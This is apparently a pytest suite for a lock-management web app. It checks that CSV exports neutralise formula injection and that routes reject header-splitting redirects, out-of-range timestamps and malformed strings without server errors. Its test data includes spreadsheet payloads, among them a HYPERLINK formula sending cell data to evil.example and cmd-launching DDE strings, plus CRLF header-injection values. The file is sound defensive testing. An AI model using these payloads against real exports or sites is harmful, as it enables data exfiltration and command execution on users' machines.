"""Input an attacker chooses: formula owners in CSV exports, timestamps outside
Python's range, header-splitting ``next`` targets. None may reach a spreadsheet as
a formula, and none may give a 500."""

from __future__ import annotations

import csv
import io
import json
from urllib.parse import quote, urlencode

import pytest

from app.audit.export import csv_cell
from tests.dashboard_helpers import csrf_token, log_in, make_user, soup
from tests.dashboard_helpers import post as dashboard_post

pytestmark = pytest.mark.usefixtures("backend")

HOSTILE_OWNERS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.fixture
def viewer(fake_app):
    make_user(fake_app, "vera", role="viewer")
    client = fake_app.test_client()
    assert log_in(client, "vera").status_code == 303
    return client


@pytest.fixture
def hostile_history(service):
    for n, owner in enumerate(HOSTILE_OWNERS):
        service.acquire(f"job:{n}", owner, ttl=60, actor="tok")
    service.force_release("job:0", actor="alice", reason="=cmd|' /C calc'!A0")
    return service


def test_csv_cell_prefixes_exactly_the_formula_starts():
    for start in "=+-@\t\r":
        assert csv_cell(start + "x") == "'" + start + "x"
    for safe in ("w-1", "job:1", " =x", "2026-11-30T09:00:00Z", "", "'quoted"):
        assert csv_cell(safe) == safe
    assert csv_cell(None) == ""
    assert csv_cell(-1) == -1  # numbers are numbers, not text a sheet parses


def test_csv_export_neutralises_formula_owners_and_reasons(viewer, hostile_history):
    response = viewer.get("/audit/export.csv")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    owners = {row["owner"] for row in rows if row["owner"]}
    assert owners == {"'" + owner for owner in HOSTILE_OWNERS}
    reasons = {row["reason"] for row in rows if row["reason"]}
    assert reasons == {"'=cmd|' /C calc'!A0"}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_jsonl_export_keeps_the_values_as_they_are(viewer, hostile_history):
    text = viewer.get("/audit/export.jsonl").get_data(as_text=True)
    owners = {json.loads(line)["owner"] for line in text.splitlines()}
    assert set(HOSTILE_OWNERS) <= owners


def test_cli_csv_export_neutralises_formulas_too(fake_app, hostile_history):
    result = fake_app.test_cli_runner().invoke(
        args=["events", "export", "--format", "csv"]
    )
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert {row["owner"] for row in rows if row["owner"]} == {
        "'" + owner for owner in HOSTILE_OWNERS
    }


# -- timestamps outside the range ----------------------------------------------------

OUT_OF_RANGE = [
    "0001-01-01T00:00+01:00",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31T23:59:59-01:00",
]
EDGES = ["0001-01-01T00:00:00Z", "9999-12-31T23:59:59.999999Z"]


@pytest.mark.parametrize("value", OUT_OF_RANGE)
@pytest.mark.parametrize("field", ["since", "until"])
def test_audit_page_and_export_say_400_for_an_instant_out_of_range(
    viewer, field, value
):
    page = viewer.get("/audit", query_string={field: value})
    assert page.status_code == 400
    assert "must be a date and time" in soup(page).get_text()
    export = viewer.get("/audit/export.csv", query_string={field: value})
    assert export.status_code == 400
    assert field in export.get_data(as_text=True)


@pytest.mark.parametrize("value", OUT_OF_RANGE)
def test_api_and_cli_refuse_an_instant_out_of_range(api, fake_app, value):
    response = api.get("/api/v1/events", query_string={"since": value})
    assert response.status_code == 400
    [error] = response.get_json()["errors"]
    assert error["field"] == "since"
    assert error["message"].startswith("is out of range")
    result = fake_app.test_cli_runner().invoke(
        args=["events", "export", "--format", "jsonl", "--until", value]
    )
    assert result.exit_code == 2
    assert f"{value!r} is out of range" in result.output


@pytest.mark.parametrize("value", EDGES)
def test_the_first_and_last_instants_are_valid_filters(api, viewer, fake_app, value):
    """Accepted everywhere, and every database compares them without an error."""
    assert api.get("/api/v1/events", query_string={"since": value}).status_code == 200
    assert api.get("/api/v1/events", query_string={"until": value}).status_code == 200
    assert viewer.get("/audit", query_string={"since": value}).status_code == 200
    assert viewer.get("/audit", query_string={"until": value}).status_code == 200
    result = fake_app.test_cli_runner().invoke(
        args=["events", "export", "--format", "jsonl", "--since", value]
    )
    assert result.exit_code == 0, result.output


# -- next targets ----------------------------------------------------------------------

BAD_NEXT = [
    "/x\r\nY:z",
    "/x\nSet-Cookie: a=b",
    "/\t/evil.example",
    "/\x00",
    "/x\x7f",
]


@pytest.mark.parametrize("target", BAD_NEXT)
def test_login_next_with_control_characters_redirects_home(viewer, target):
    """Logged in, /login?next=... redirects at once: it must stay a safe local one."""
    response = viewer.get("/login", query_string={"next": target})
    assert response.status_code == 302
    assert response.headers["Location"] == "/"


@pytest.mark.parametrize("target", BAD_NEXT)
def test_login_form_next_with_control_characters_goes_home(fake_app, target):
    make_user(fake_app, "olga")
    client = fake_app.test_client()
    response = log_in(client, "olga", next=target)
    assert response.status_code == 303
    assert response.headers["Location"] == "/"


def test_action_next_with_control_characters_goes_to_the_lock_page(app):
    from app.extensions import lock_service
    from tests.dashboard_helpers import csrf_token

    make_user(app, "olga")
    with app.app_context():
        fence = lock_service().acquire("job:1", "w-1", ttl=60).lock.fence
    operator = app.test_client()
    log_in(operator, "olga")
    response = operator.post(
        "/locks/job:1/release",
        data={
            "reason": "test",
            "fence": str(fence),
            "csrf_token": csrf_token(operator, "/"),
            "next": "/x\r\nY:z",
        },
    )
    assert response.status_code == 303
    assert response.headers["Location"] == "/locks/job:1"


# -- the class: every string a client sends, on every route and form ------------------

# In JSON (the API's bodies) and in forms: Python strings.
HOSTILE_TEXT = {
    "lone surrogate": "a\ud800b",
    "NUL": "a\x00b",
    "control characters": "a\x1b[31m\x07\rb",
    "10k characters": "x" * 10_000,
}
# In a URL path or query: the same as percent-encoded bytes (a lone surrogate is
# its CESU-8 form, invalid UTF-8).
HOSTILE_URL = {
    "lone surrogate": "a%ED%A0%80b",
    "NUL": "a%00b",
    "control characters": "a%1B%5B31m%07%0Db",
    "10k characters": "x" * 10_000,
}


def _failures(responses) -> list[str]:
    """Every (what, status) that is a 500 (or any 5xx but a documented 503)."""
    return [f"{what}: {r.status_code}" for what, r in responses if r.status_code >= 500]


def _api_requests(api):
    """(what, response) for every API operation x every string it takes."""
    from app.api.shapes import shapes

    with api.app.app_context():
        operations = shapes().operations
        for (rule, method), operation in operations.items():
            body_schema = operation.schema["properties"].get("body")
            body_fields = []
            if body_schema is not None:
                resolved = shapes().resolve(body_schema)
                body_fields = list(resolved.get("properties", {}))
            path_params = [p.split(">")[0] for p in rule.split("<")[1:]]
            path = rule
            for param in path_params:
                path = path.replace(f"<{param}>", "job:1")
            yield rule, method, path, path_params, list(operation.query), body_fields


def test_every_api_string_field_refuses_hostile_text_without_a_500(api):
    responses = []
    for rule, method, path, path_params, query, body_fields in _api_requests(api):
        for kind, text in HOSTILE_URL.items():
            for param in path_params:
                hostile_path = rule
                for other in path_params:
                    value = text if other == param else "job:1"
                    hostile_path = hostile_path.replace(f"<{other}>", value)
                what = f"{method} {rule} path {param} {kind}"
                responses.append((what, api.open(method, hostile_path)))
            for name in query:
                what = f"{method} {rule} ?{name} {kind}"
                responses.append((what, api.open(method, f"{path}?{name}={text}")))
        for kind, text in HOSTILE_TEXT.items():
            for name in body_fields:
                fields = {"owner": "w-1", "reason": "hostile input test", name: text}
                what = f"{method} {rule} body {name} {kind}"
                # json.dumps writes a lone surrogate as its \\u escape, as a
                # hostile client would.
                sent = api.open(
                    method,
                    path,
                    data=json.dumps(fields),
                    content_type="application/json",
                )
                responses.append((what, sent))
    assert len(responses) > 50
    assert _failures(responses) == []
    refused = [w for w, r in responses if "lone surrogate" in w and r.status_code < 400]
    assert refused == []


def _form(fields: dict[str, str], name: str, encoded: str) -> dict:
    """A urlencoded form body with ``name`` sent as the bytes ``encoded`` stands
    for (a browser cannot send a lone surrogate; a hostile client can)."""
    body = urlencode({k: v for k, v in fields.items() if k != name})
    body += f"&{quote(name)}={encoded}"
    return {"data": body, "content_type": "application/x-www-form-urlencoded"}


def _form_fields(page) -> dict[str, str]:
    fields = {}
    for form in page.find_all("form"):
        for field in form.find_all(["input", "select", "textarea"]):
            name = field.get("name")
            if name and name != "csrf_token":
                fields[name] = field.get("value") or "x"
    return fields


DASHBOARD_FORMS = [
    "/locks/job:1/claim",
    "/locks/job:1/release",
    "/freezes/new",
    "/freezes/job:/unfreeze",
    "/stale/release?prefix=job:",
]
DASHBOARD_PAGES = ["/", "/activity", "/audit", "/freezes", "/locks/job:1"]
QUERY_NAMES = ["cursor", "sort", "state", "prefix", "owner", "q", "next", "tab"]


@pytest.mark.slow
def test_every_dashboard_form_and_filter_refuses_hostile_text_without_a_500(
    operator, fake_app, clock
):
    from app.extensions import lock_service

    with fake_app.app_context():
        lock_service().acquire("job:old", "w-1", ttl=1, token="worker")
        clock.advance(2)  # a stale lock, for the stale tab's form
        lock_service().acquire("job:1", "w-1", ttl=60, token="worker")
        lock_service().freeze("job:", actor="olga", reason="hostile input test")
    responses = []
    token = csrf_token(operator, "/")
    for url in DASHBOARD_FORMS:
        fields = _form_fields(soup(operator.get(url)))
        assert fields, url
        for kind, text in HOSTILE_URL.items():
            for name in fields:
                data = {**fields, "csrf_token": token}
                sent = operator.post(url, **_form(data, name, text))
                responses.append((f"POST {url} {name} {kind}", sent))
    for url in DASHBOARD_PAGES:
        page = soup(operator.get(url))
        names = set(QUERY_NAMES)
        for form in page.find_all("form", method=lambda m: (m or "get") == "get"):
            names |= {f.get("name") for f in form.find_all(["input", "select"])}
        for kind, text in HOSTILE_URL.items():
            for name in sorted(n for n in names if n):
                what = f"GET {url}?{name} {kind}"
                responses.append((what, operator.get(f"{url}?{name}={text}")))
    for kind, text in HOSTILE_URL.items():
        for url in ["/locks/{}", "/locks/{}/claim", "/locks/{}/release"]:
            what = f"GET {url} {kind}"
            responses.append((what, operator.get(url.format(text))))
    assert _failures(responses) == []


def test_the_login_form_refuses_hostile_text_without_a_500(fake_app):
    client = fake_app.test_client()
    responses = []
    for kind, text in HOSTILE_URL.items():
        for field in ("username", "password"):
            data = {"username": "vera", "password": "pw", "csrf_token": "-"}
            data["csrf_token"] = csrf_token(client)
            response = client.post("/login", **_form(data, field, text))
            responses.append((f"POST /login {field} {kind}", response))
    assert _failures(responses) == []


# -- the findings one by one ----------------------------------------------------------


@pytest.mark.parametrize("sort", ["acquired", "-expires"])
def test_a_forged_sort_cursor_before_the_first_utc_instant_is_a_400(operator, sort):
    from lockkeeper_core.pagination import encode_cursor

    cursor = encode_cursor({"resource": "a", "key": "0001-01-01T00:00:00+14:00"})
    page = operator.get(f"/?sort={sort}&cursor={cursor}")
    assert page.status_code == 400
    assert soup(page).select(".field-error")


@pytest.mark.parametrize("ttl", [1e-320, 1e-7, 0.0009])
def test_a_ttl_shorter_than_the_minimum_is_a_400_naming_it(api, ttl):
    response = api.post("/api/v1/locks/job:tiny", json={"owner": "w", "ttl": ttl})
    assert response.status_code == 400
    [error] = response.get_json()["errors"]
    assert error["field"] == "ttl"
    assert "at least 0.001" in error["message"], error
    assert api.get("/api/v1/locks/job:tiny").status_code == 404
    granted = api.post("/api/v1/locks/job:tiny", json={"owner": "w", "ttl": 0.001})
    assert granted.status_code == 200


def test_a_dashboard_claim_of_a_frozen_resource_says_so(operator, service):
    service.freeze("job:", actor="olga", reason="deploy in progress")
    response = dashboard_post(
        operator, "/locks/job:1/claim", {"owner": "olga", "reason": "need it"}
    )
    assert response.status_code == 423
    assert "deploy in progress" in response.get_data(as_text=True)
    assert service.list_locks().items == []


@pytest.mark.parametrize("for_token", ["a\x00b", "a\ud800b", "x" * 300, "nobody"])
def test_a_claim_for_a_token_that_cannot_exist_is_refused_by_name(
    operator, service, fake_app, for_token
):
    from lockkeeper_core.errors import InvalidInput

    with pytest.raises(InvalidInput) as refused:
        service.claim("job:2", "olga", actor="olga", for_token=for_token)
    assert refused.value.errors[0][0] == "for_token"
    if "\ud800" not in for_token:
        response = dashboard_post(
            operator, "/locks/job:2/claim", {"owner": "olga", "for_token": for_token}
        )
        assert response.status_code == 400
    result = fake_app.test_cli_runner().invoke(
        args=["locks", "claim", "job:2", "--owner", "olga", "--for-token", for_token]
    )
    assert result.exit_code != 0
    assert "Traceback" not in result.output
    assert service.list_locks().items == []


def test_a_claim_for_a_token_revoked_before_it_commits_is_refused(service, fake_app):
    from lockkeeper_core.errors import InvalidInput

    from app.auth.service import create_token, revoke_token

    with fake_app.app_context():
        create_token("bound")
        assert service.claim("job:3", "olga", actor="olga", for_token="bound")
        revoke_token("bound")
        with pytest.raises(InvalidInput):
            service.claim("job:4", "olga", actor="olga", for_token="bound")
